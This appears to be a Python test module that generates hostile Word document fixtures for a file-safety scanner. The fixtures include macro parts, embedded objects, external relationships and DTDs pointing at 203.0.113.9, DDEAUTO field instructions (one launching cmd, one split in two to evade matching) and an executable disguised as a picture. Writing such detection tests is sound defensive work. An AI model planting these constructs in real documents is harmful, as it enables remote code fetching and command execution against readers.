"""Word files that run, fetch, embed, or hide."""

from collections.abc import Iterator

from tests.unit.files import good
from tests.unit.files.hostile.making import EXE, Case, Why, case, png


def _rel(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return f'<Relationship Id="rX" Type="{base}{kind}" Target="{target}"{mode}/></Relationships>'.encode()


def _linked(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    path = "word/_rels/document.xml.rels"
    content = good.word()
    told = good.part_of(content, path).replace(b"</Relationships>", _rel(kind, target, mode))
    return good.rezipped(content, {path: told})


def _in_words(markup: bytes) -> bytes:
    content = good.word()
    body = good.part_of(content, "word/document.xml")
    return good.rezipped(content, {"word/document.xml": body.replace(b"<w:p>", b"<w:p>" + markup, 1)})


def word() -> Iterator[Case]:
    """Word files that run, fetch, embed, or hide."""
    for part, why in {
        "word/vbaProject.bin": Why.MACROS,
        "word/vbaData.xml": Why.MACROS,
        "word/embeddings/oleObject1.bin": Why.FILES_INSIDE,
        "word/activeX/activeX1.xml": Why.FILES_INSIDE,
        "word/webextensions/webextension1.xml": Why.FILES_INSIDE,
    }.items():
        yield case(f"word with {part}", lambda part=part: good.rezipped(good.word(), {part: b"<a/>"}), why)
    for kind in (
        "attachedTemplate",
        "image",
        "oleObject",
        "subDocument",
        "frame",
        "aFChunk",
        "externalLinkPath",
    ):
        yield case(
            f"word that fetches its {kind}",
            lambda kind=kind: _linked(kind, "http://203.0.113.9/x"),
            Why.LINKS,
        )


def orders() -> Iterator[Case]:
    """Words that order something to be fetched."""
    yield case(
        "word that fetches quietly",
        lambda: _linked("image", "//203.0.113.9/x", ""),
        Why.LINKS,
    )
    for order in (
        "DDEAUTO c:\\x cmd",
        "DDE x y",
        "INCLUDEPICTURE http://203.0.113.9/x",
        "INCLUDETEXT x",
        "LINK Excel.Sheet x",
    ):
        text = f"<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>{order}</w:instrText></w:r>".encode()
        yield case(f"word that says {order[:8]}", lambda text=text: _in_words(text), Why.LINKS)
    halves = b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x y</w:instrText></w:r>"
    yield case("word that says it in two halves", lambda: _in_words(halves), Why.LINKS)
    yield case(
        "word that says it at once", lambda: _in_words(b"<w:fldSimple w:instr='DDEAUTO x y'/>"), Why.LINKS
    )
    for tag in ("ins", "del", "moveFrom", "moveTo"):
        text = f"<w:{tag} w:author='A' w:id='1'><w:r><w:t>x</w:t></w:r></w:{tag}>".encode()
        yield case(f"word with a change: {tag}", lambda text=text: _in_words(text), Why.TRACKED_CHANGES)
    yield case(
        "word with a changed look",
        lambda: _in_words(b"<w:r><w:rPr><w:rPrChange w:id='1'/></w:rPr></w:r>"),
        Why.TRACKED_CHANGES,
    )


def more_word() -> Iterator[Case]:
    """Further ones."""
    yield case("word with an object", lambda: _in_words(b"<w:r><w:object/></w:r>"), Why.FILES_INSIDE)
    yield case("word with a foreign part", lambda: _in_words(b"<w:altChunk/>"), Why.FILES_INSIDE)
    styles = good.part_of(good.word(), "word/styles.xml").replace(b"<w:rPr>", b"<w:rPr><w:vanish/>", 1)
    yield case(
        "word with a style that hides",
        lambda: good.rezipped(good.word(), {"word/styles.xml": styles}),
        Why.HIDDEN_PARTS,
    )


def parts() -> Iterator[Case]:
    """Words whose parts are other than they say."""
    types = good.part_of(good.word(), "[Content_Types].xml")
    macros = types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    yield case(
        "word that says it has macros",
        lambda: good.rezipped(good.word(), {"[Content_Types].xml": macros}),
        Why.MACROS,
        Why.UNKNOWN_KIND,
    )
    template = types.replace(b"document.main+xml", b"template.main+xml")
    yield case(
        "a template", lambda: good.rezipped(good.word(), {"[Content_Types].xml": template}), Why.UNKNOWN_KIND
    )
    yield case(
        "word without its words",
        lambda: good.rezipped(good.word(), {"word/document.xml": None}),
        Why.DAMAGED,
        Why.ARCHIVE,
    )
    yield case(
        "word with broken words",
        lambda: good.rezipped(good.word(), {"word/document.xml": b"<w:document"}),
        Why.DAMAGED,
    )


def pictures_inside() -> Iterator[Case]:
    """Words with pictures that are none, and with a type from outside."""
    for name, part in {
        "picture1.emf": b"\x01\x00\x00\x00" + bytes(90),
        "picture2.svg": b"<svg/>",
        "picture3.png": EXE,
    }.items():
        yield case(
            f"word with {name}",
            lambda n=name, p=part: good.rezipped(good.word(), {f"word/media/{n}": p}),
            Why.PICTURE_INSIDE,
        )
    wide = png(30000, 30000, bytes(90_000))
    yield case(
        "word with a huge picture",
        lambda: good.rezipped(good.word(), {"word/media/x.png": wide}),
        Why.PICTURE_INSIDE,
    )
    outside = b'<!DOCTYPE x SYSTEM "http://203.0.113.9/x.dtd"><x/>'
    yield case(
        "word with a type from outside",
        lambda: good.rezipped(good.word(), {"word/settings.xml": outside}),
        Why.DAMAGED,
    )
